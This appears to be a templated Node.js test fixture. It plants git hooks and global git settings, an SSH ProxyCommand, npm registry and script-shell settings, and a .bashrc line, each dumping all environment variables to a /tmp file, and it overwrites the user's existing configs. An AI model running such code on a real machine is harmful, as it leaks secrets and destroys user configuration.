import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';

const hooks = '/tmp/@MARK@-hooks';
const home = process.env.HOME;
mkdirSync(hooks, { recursive: true });
for (const name of ['post-checkout', 'reference-transaction', 'post-index-change']) {
  writeFileSync(`${hooks}/${name}`, '#!/bin/sh\nenv >> /tmp/@MARK@-env\n');
  chmodSync(`${hooks}/${name}`, 0o755);
}
for (const setting of ['core.hooksPath', 'core.fsmonitor']) {
  try {
    execFileSync('git', ['config', '--global', setting, setting === 'core.hooksPath' ? hooks : `${hooks}/post-checkout`]);
  } catch {
    // There is no git here.
  }
}
mkdirSync(`${home}/.ssh`, { recursive: true });
writeFileSync(`${home}/.ssh/config`, 'Host *\n  ProxyCommand sh -c "env >> /tmp/@MARK@-env"\n');
writeFileSync(`${home}/.npmrc`, 'registry=http://127.0.0.1:@SINK_PORT@/\nscript-shell=/tmp/@MARK@-hooks/post-checkout\n');
writeFileSync(`${home}/.bashrc`, 'env >> /tmp/@MARK@-env\n');
